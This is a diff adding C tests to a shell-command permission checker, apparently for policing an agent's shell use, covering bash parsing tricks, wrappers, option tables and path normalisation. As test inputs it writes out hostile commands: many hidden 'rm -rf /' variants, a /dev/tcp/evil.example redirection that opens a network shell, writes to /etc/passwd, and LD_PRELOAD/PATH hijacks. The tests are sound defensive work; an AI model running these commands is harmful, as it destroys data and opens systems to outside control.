@@ -3,9 +3,12 @@
  * includes, test lines, every shell construct, wrappers and fail-closed cases. */
 
 #include <fcntl.h>
+#include <sys/resource.h>
 #include <sys/stat.h>
+#include <sys/wait.h>
 
 #include "common.h"
+#include "policies-internal.h"
 #include "policies.h"
 #include "tap.h"
 
@@ -228,7 +231,9 @@ TEST(word_matching)
         CHECK_DECIDE("make install", Q);
         CHECK_DECIDE("true", A);
         CHECK_DECIDE("./scripts/build.sh", A);
-        CHECK_DECIDE("./scripts/sub/x.sh", A); /* * crosses / (no FNM_PATHNAME) */
+        CHECK_DECIDE("./scripts/sub/x.sh", Q); /* * does not cross / (** does) */
+        CHECK_DECIDE("./scripts/../../x.sh", Q); /* normalised before matching */
+        CHECK_DECIDE("./scripts/./build.sh", A);
         CHECK_DECIDE("./other/build.sh", Q);
         CHECK_DECIDE("python3 --version", A);
         CHECK_DECIDE("python3 -c 'print(1)'", Q);
@@ -486,7 +491,7 @@ TEST(fail_closed)
                 "PATH=/tmp:$PATH", "PATH=. ls", "LD_PRELOAD=/tmp/x.so ls", "export PATH=/tmp",
                 "declare -x LD_PRELOAD=x", "f() { ls; }; f", "function f { ls; }", "echo $((x))",
                 "printf -v 'a[$(id)]' x", "read 'a[`id`]'", "[[ $x -eq 1 ]]", "GIT_SSH_COMMAND=x git status",
-                "echo $[1+2]", "$'r\\0m' x", "x[1]=y",
+                "echo $[1+2]", "$'r\\0m' x", "x[i]=y",
         };
         for (size_t i = 0; i < ELEMENTSOF(cases); i++) {
                 _cleanup_pc_verdict_ pc_verdict *v = NULL;
@@ -655,3 +660,303 @@ TEST(many_rules_are_indexed)
 }
 
 TAP_MAIN()
+
+/* ---- issue 8: allow only what bash will really do ---- */
+
+TEST(bash_parse_differentials)
+{
+        /* here-document delimiters are compared after quote removal and \-newline joining, like bash */
+        CHECK_DECIDE("cat <<\"a\\\"b\"\nx\na\"b\nrm -rf /", D);
+        CHECK_DECIDE("cat <<E\\\nOF\nbody\nEOF\nrm -rf /", D);
+        CHECK_DECIDE("cat <<EOF\nx\nEO\\\nF\nrm -rf /", D);
+        CHECK_DECIDE("cat <<'EOF'\nEO\\\nF\nrm -rf /\nEOF", A);
+        CHECK_DECIDE("cat <<$'\\x41'\nA\nrm -rf /", D);
+        CHECK_DECIDE("cat <<EOF\n$(rm -rf /)\nEOF", D);
+        /* ${x:-{} ends at the first } */
+        CHECK_DECIDE("echo ${x:-{}; rm -rf /; echo }", D);
+        CHECK_DECIDE("echo ${x:-'}'}", A);
+        CHECK_DECIDE("echo ${x:-'$(rm -rf /)'}", A);
+        /* single quotes inside arithmetic group text but do not stop expansions */
+        CHECK_DECIDE("echo $(( 1 ' )) $(rm -rf /) ' ))", D);
+        CHECK_DECIDE("(( 1 ' )) $(rm -rf /) ' ))", D);
+        CHECK_DECIDE("for (( i=' $(rm -rf /) '; i<1; i++ )); do :; done", D);
+        CHECK_DECIDE("echo ${x:' $(rm -rf /) '}", D);
+        CHECK_DECIDE("echo \"${x:-'}' $(rm -rf /) '}\"", D);
+        CHECK_DECIDE("echo $((1+2))", A);
+        CHECK_DECIDE("echo $( (ls) )", A);
+        CHECK_DECIDE("echo $((ls) )", A);
+        CHECK_DECIDE("time -- rm -rf /", D);
+        CHECK_DECIDE("coproc X { rm -rf /; }", D);
+        CHECK_DECIDE("coproc rm -rf /", D);
+}
+
+TEST(arithmetic_and_bindings)
+{
+        CHECK_DECIDE("[[ X -eq 0 ]]", Q);
+        CHECK_DECIDE("[[ 0 -lt n ]]", Q);
+        CHECK_DECIDE("[[ 1 -eq 0x1 ]]", A);
+        CHECK_DECIDE("[[ -v 'a[X]' ]]", Q);
+        CHECK_DECIDE("test -v 'a[X]'", Q);
+        CHECK_DECIDE("printf -v 'a[X]' x", Q);
+        CHECK_DECIDE("a=([X]=1)", Q);
+        CHECK_DECIDE("a=([1]=1)", A);
+        CHECK_DECIDE("echo \"${a[0]}\"", A);
+        CHECK_DECIDE("echo \"${a[i]}\"", Q);
+        CHECK_DECIDE("for PATH in /tmp/evil; do ls; done", Q);
+        CHECK_DECIDE("for f in a b; do ls \"$f\"; done", A);
+        CHECK_DECIDE("select PATH in /tmp; do ls; done", Q);
+        CHECK_DECIDE("read -r PATH", Q);
+        CHECK_DECIDE("printf -v PATH x", Q);
+        CHECK_DECIDE("declare -n r=PATH", Q);
+        CHECK_DECIDE("declare -i n", Q);
+        CHECK_DECIDE("export GIT_DIR=/x", Q);
+        CHECK_DECIDE("local PYTHONPATH=/x", Q);
+        CHECK_DECIDE("mapfile BASH_ENV", Q);
+        CHECK_DECIDE("getopts ab IFS", Q);
+        CHECK_DECIDE("wait -p PATH", Q);
+        CHECK_DECIDE("ls | xargs --process-slot-var=PATH ls", Q);
+        CHECK_DECIDE("bash -k -c ls", Q);
+        CHECK_DECIDE("bash -o keyword -c ls", Q);
+        CHECK_DECIDE("set -k", Q);
+        CHECK_DECIDE("ls {PATH}>/dev/null", Q);
+        CHECK_DECIDE("ls {fd}>/dev/null", A);
+        CHECK_DECIDE("coproc PATH { ls; }", Q);
+        CHECK(sh_binding_problem("PATH", 4));
+        CHECK(sh_binding_problem("GIT_TRACE2", 10));
+        CHECK(sh_binding_problem("NODE_OPTIONS", 12));
+        CHECK(sh_binding_problem("PERL5DB", 7));
+        CHECK(sh_binding_problem("RIPGREP_CONFIG_PATH", 19));
+        CHECK(sh_binding_problem("http_proxy", 10));
+        CHECK(sh_binding_problem("FOO", 3));
+        CHECK(!sh_binding_problem("line", 4));
+        CHECK(!sh_binding_problem("REPLY", 5));
+        CHECK(!sh_binding_problem("a[3]", 4));
+        CHECK(sh_binding_problem("a[i]", 4));
+}
+
+TEST(run_time_splicing)
+{
+        CHECK_DECIDE("ls | xargs -I% bash -c 'echo %'", Q);
+        CHECK_DECIDE("ls | xargs -i bash -c 'echo {}'", Q);
+        CHECK_DECIDE("find . -exec sh -c 'echo {}' \\;", Q);
+        CHECK_DECIDE("find . -exec sh -c 'cat \"$1\"' _ {} \\;", Q);
+        CHECK_DECIDE("ls | xargs bash -c 'echo \"$@\"' _", Q);
+        CHECK_DECIDE("ls | xargs -I{} echo {}", A);
+        CHECK_DECIDE("find . -exec sh -c 'ls' \\;", A);
+}
+
+TEST(option_tables)
+{
+        const prog_spec *sort = spec_find("sort", NULL), *git_reset = spec_find("git", "reset");
+        spec_opt o;
+
+        CHECK(sort && git_reset && !spec_find("git", "frobnicate"));
+        CHECK_INTEQ(spec_lookup(sort, "o", 3, 2, &o), 0);
+        CHECK_INTEQ(spec_lookup(sort, "outp", 4, 2, &o), 1);
+        CHECK(o.effect == 'W' && o.canon_short && o.canon[0] == 'o');
+        CHECK_INTEQ(spec_lookup(sort, "co", 2, 2, &o), 1); /* --compress-program: --check starts with "ch" */
+        CHECK(o.effect == 'X');
+        CHECK_INTEQ(spec_lookup(sort, "s", 1, 2, &o), -EAGAIN); /* --sort, --stable */
+        CHECK_INTEQ(spec_lookup(git_reset, "ha", 2, 2, &o), 1);
+        CHECK(o.canon_len == 4 && strneq(o.canon, "hard", 4));
+
+        _cleanup_(pc_policy_freep) pc_policy *p = load("version 1\ndefault ask\nallow exec sort ...\n"
+                                                       "allow exec sort -o * ...\nallow exec uniq ...\n"
+                                                       "allow exec sed ...\nallow exec grep ...\n"
+                                                       "allow exec git diff ...\nallow exec git blame ...\n"
+                                                       "allow write /tmp/**\ndeny exec rm -rf ...\n"
+                                                       "deny exec git reset --hard ...\n");
+        CHECK_INTEQ(decide(p, "sort -k1,1 f"), A);
+        CHECK_INTEQ(decide(p, "sort --compress-program=sh f"), Q);
+        CHECK_INTEQ(decide(p, "sort --o=x f"), A); /* --o is -o, which "sort -o * ..." names */
+        CHECK_INTEQ(decide(p, "sort --compress=gzip f"), Q);
+        CHECK_INTEQ(decide(p, "sort -o x f"), A);     /* named by the rule */
+        CHECK_INTEQ(decide(p, "sort --outp=/tmp/x f"), A); /* the write rules decide the file */
+        CHECK_INTEQ(decide(p, "sort --frob f"), Q);
+        CHECK_INTEQ(decide(p, "sort \"$o\" f"), Q);
+        CHECK_INTEQ(decide(p, "uniq a b"), Q);
+        CHECK_INTEQ(decide(p, "uniq a /tmp/b"), A);
+        CHECK_INTEQ(decide(p, "sed -n 1p f"), A);
+        CHECK_INTEQ(decide(p, "sed 'e' f"), Q);
+        CHECK_INTEQ(decide(p, "sed -n '1e id' f"), Q);
+        CHECK_INTEQ(decide(p, "sed 's/a/b/w x' f"), Q);
+        CHECK_INTEQ(decide(p, "sed -e p -e 'w x' f"), Q);
+        CHECK_INTEQ(decide(p, "sed -f script f"), Q);
+        CHECK_INTEQ(decide(p, "sed -i s/a/b/ f"), Q);
+        CHECK_INTEQ(decide(p, "grep -5 -rn x ."), A);
+        CHECK_INTEQ(decide(p, "git diff --ou=x"), Q);
+        CHECK_INTEQ(decide(p, "git --no-pager diff --stat"), A);
+        CHECK_INTEQ(decide(p, "git -c core.pager=sh diff"), Q);
+        CHECK_INTEQ(decide(p, "git blame \"$f\""), A);
+        CHECK_INTEQ(decide(p, "rm -r --f /"), D);
+        CHECK_INTEQ(decide(p, "rm --rec --for /"), D);
+        CHECK_INTEQ(decide(p, "git reset --ha"), D);
+        CHECK_INTEQ(decide(p, "git -C x reset --hard"), D);
+
+        CHECK(sed_script_effect("s/a/b/g") == 0);
+        CHECK(sed_script_effect("/x/d;5q") == 0);
+        CHECK(sed_script_effect("1~2{p;n}") == 0);
+        CHECK(sed_script_effect("s|/|x|gw out") == 'W');
+        CHECK(sed_script_effect("/re/e") == 'X');
+        CHECK(sed_script_effect("s/a/b/e") == 'X');
+        CHECK(sed_script_effect("y/abc/xyz/") == 0);
+        CHECK(sed_script_effect("a\\\ntext w x") == 0);
+        CHECK(sed_script_effect("r /etc/passwd") == 0);
+        CHECK(sed_script_effect("W out") == 'W');
+}
+
+TEST(redirections_network_and_paths)
+{
+        CHECK_DECIDE("cat x 0</dev/tcp/evil.example/4444 1>&0", Q);
+        CHECK_DECIDE("cat < /dev/./tcp//evil/80", Q);
+        CHECK_DECIDE("cat < \"$f\"", Q);
+        CHECK_DECIDE("cat < file", A);
+        CHECK_DECIDE("cat <<< \"$x\"", A);
+        CHECK_DECIDE("echo x > /tmp/../etc/passwd", D);
+        CHECK_DECIDE("echo x > //etc/passwd", D);
+        CHECK_DECIDE("echo x > /etc/./passwd", D);
+        CHECK_DECIDE("echo x > /tmp/x", A);
+        CHECK_DECIDE("echo x > /tmp/a/b", Q); /* * does not cross / */
+        CHECK_DECIDE("cd /tmp && echo x > ../etc/passwd", Q);
+
+        static const struct {
+                const char *in, *out;
+        } norm[] = {
+                { "/tmp/../etc/passwd", "/etc/passwd" }, { "//etc//passwd", "/etc/passwd" }, { "/..", "/" },
+                { "a/./b/../c", "a/c" }, { "../x", "../x" }, { "a/../../x", "../x" }, { "./x", "./x" },
+                { "./a/../b", "./b" }, { "~/../x", "~/../x" }, { ".", "." }, { "a/..", "." }, { "/", "/" },
+        };
+        for (size_t i = 0; i < ELEMENTSOF(norm); i++) {
+                _cleanup_free_ char *n = path_normalize(norm[i].in);
+                CHECK_STREQ(n, norm[i].out);
+        }
+        CHECK(glob_match("/tmp/*", "/tmp/x"));
+        CHECK(!glob_match("/tmp/*", "/tmp/x/y"));
+        CHECK(glob_match("/tmp/**", "/tmp/x/y"));
+        CHECK(glob_match("**.bashrc", "/root/.bashrc"));
+        CHECK(glob_match("a/[bc]?", "a/cd"));
+        CHECK(!glob_match("a/?", "a//"));
+        CHECK(glob_match("\\*", "*"));
+        CHECK(!glob_match("\\*", "x"));
+}
+
+TEST(wrappers_looked_through)
+{
+        static const char *const cmds[] = {
+                "setsid rm -rf /", "setsid -f rm -rf /", "ionice -c3 rm -rf /", "ionice -c 2 -n 7 rm -rf /",
+                "chrt 5 rm -rf /", "chrt -f 5 rm -rf /", "flock /tmp/l rm -rf /", "flock -n /tmp/l -c 'rm -rf /'",
+                "busybox rm -rf /", "script -q -c 'rm -rf /' /dev/null", "time -p -- rm -rf /",
+                "/usr/bin/time -o /tmp/t rm -rf /",
+        };
+        for (size_t i = 0; i < ELEMENTSOF(cmds); i++)
+                CHECK_DECIDE(cmds[i], D);
+        CHECK_DECIDE("/usr/bin/time -o /etc/x ls", D); /* time's own output file is decided */
+        CHECK_DECIDE("/usr/bin/time -o /tmp/x ls", A);
+        CHECK_DECIDE("ionice -p 1", Q);
+        CHECK_DECIDE("sudo -i", Q);
+        CHECK_DECIDE("sudo -s ls", Q);
+}
+
+static char *repeat(const char *head, const char *unit, size_t n, const char *mid, const char *unit2, size_t n2)
+{
+        _cleanup_(sb_done) strbuf b = {};
+        CHECK(sb_puts(&b, head) >= 0);
+        for (size_t i = 0; i < n; i++)
+                CHECK(sb_puts(&b, unit) >= 0);
+        CHECK(sb_puts(&b, mid) >= 0);
+        for (size_t i = 0; i < n2; i++)
+                CHECK(sb_puts(&b, unit2) >= 0);
+        return sb_steal(&b);
+}
+
+/* The arithmetic-or-subshell question is answered once per "(": nesting costs work linear in the size of
+ * the input (counted by the parser, not timed). */
+TEST(linear_work)
+{
+        static const struct {
+                const char *head, *unit, *mid, *unit2;
+        } shapes[] = {
+                { "echo ", "$(( ", "ls", " ) )" },      /* the issue's example: each level is a subshell */
+                { "echo ", "$(( ", "x", " ))" },        /* real arithmetic */
+                { "", "(( ", "x", " ))" },
+                { "echo ", "$(( ( ", "ls", " ) ) )" },
+                { "echo ", "\"$(", "ls", ")\"" },
+                { "echo ", "${x:-", "y", "}" },
+                { "", "( ", "ls", " )" },
+        };
+        for (size_t i = 0; i < ELEMENTSOF(shapes); i++) {
+                double per_byte[2];
+                for (size_t k = 0; k < 2; k++) {
+                        size_t depth = k == 0 ? 5 : 40, steps = 0;
+                        _cleanup_free_ char *cmd = repeat(shapes[i].head, shapes[i].unit, depth, shapes[i].mid,
+                                                          shapes[i].unit2, depth);
+                        _cleanup_pc_verdict_ pc_verdict *v = NULL;
+                        CHECK(policy_decide_counted(base(), cmd, strlen(cmd), &v, &steps) >= 0);
+                        per_byte[k] = (double) steps / (double) strlen(cmd);
+                        if (per_byte[k] > 16)
+                                printf("#   shape %zu depth %zu: %zu steps for %zu bytes\n", i, depth, steps, strlen(cmd));
+                        CHECK(per_byte[k] <= 16);
+                }
+        }
+        /* 1 MiB of commands, substitutions and arithmetic */
+        _cleanup_free_ char *big = repeat("", "echo $((1+2)) \"$(ls -l)\" ${x:-y} > /dev/null; ", 16000, "", "", 0);
+        size_t steps = 0;
+        _cleanup_pc_verdict_ pc_verdict *v = NULL;
+        CHECK(policy_decide_counted(base(), big, strlen(big), &v, &steps) >= 0);
+        CHECK(steps <= 16 * strlen(big));
+        CHECK(v && v->decision == PC_DECISION_ALLOW);
+}
+
+TEST(verdict_lists_are_capped)
+{
+        _cleanup_free_ char *cmd = repeat("", "ls; ", 5000, "rm -rf /", "", 0);
+        _cleanup_pc_verdict_ pc_verdict *v = NULL;
+
+        CHECK(pc_policy_decide(base(), cmd, strlen(cmd), &v) >= 0);
+        CHECK_INTEQ(v->n_commands, PC_VERDICT_ENTRIES_MAX);
+        CHECK_INTEQ(v->n_commands_omitted, 5001 - PC_VERDICT_ENTRIES_MAX);
+        CHECK_INTEQ(v->decision, D); /* the verdict covers what is not listed */
+        CHECK_INTEQ(v->omitted_decision, D);
+}
+
+/* Deciding 1 MiB needs at most 20 times its size in memory (checked with an address-space limit in a
+ * child; not under AddressSanitizer, whose shadow memory does not fit such a limit). */
+TEST(memory_bound)
+{
+#if defined(__SANITIZE_ADDRESS__)
+        tap_skip_reason = "address-space limits do not work under AddressSanitizer";
+        return;
+#elif defined(__has_feature)
+#if __has_feature(address_sanitizer)
+        tap_skip_reason = "address-space limits do not work under AddressSanitizer";
+        return;
+#endif
+#endif
+        static const char *const units[] = { "a;", "x=", "echo \"$(ls)\" ", "$((1))", "cat <<E\n$x\nE\n", "((" };
+        for (size_t i = 0; i < ELEMENTSOF(units); i++) {
+                size_t n = PC_COMMAND_MAX / strlen(units[i]);
+                _cleanup_free_ char *cmd = repeat("", units[i], n, "", "", 0);
+                size_t len = strlen(cmd);
+                pid_t pid = fork();
+                CHECK(pid >= 0);
+                if (pid == 0) {
+                        _cleanup_free_ char *status = NULL;
+                        unsigned long vm_kb = 0;
+                        CHECK(read_full_file("/proc/self/status", 1 << 20, &status, NULL) >= 0);
+                        const char *l = strstr(status, "VmSize:");
+                        if (!l || sscanf(l, "VmSize: %lu", &vm_kb) != 1)
+                                _exit(2);
+                        struct rlimit rl = { .rlim_cur = vm_kb * 1024 + 20 * len + 4 * 1024 * 1024 };
+                        rl.rlim_max = rl.rlim_cur;
+                        if (setrlimit(RLIMIT_AS, &rl) < 0)
+                                _exit(3);
+                        pc_verdict *v = NULL;
+                        _exit(pc_policy_decide(base(), cmd, len, &v) < 0 ? 1 : 0);
+                }
+                int st = 0;
+                CHECK(waitpid(pid, &st, 0) == pid);
+                if (!WIFEXITED(st) || WEXITSTATUS(st) != 0)
+                        printf("#   unit %zu: the decision did not fit in 20x %zu bytes (status %d)\n", i, len, st);
+                CHECK(WIFEXITED(st) && WEXITSTATUS(st) == 0);
+        }
+}
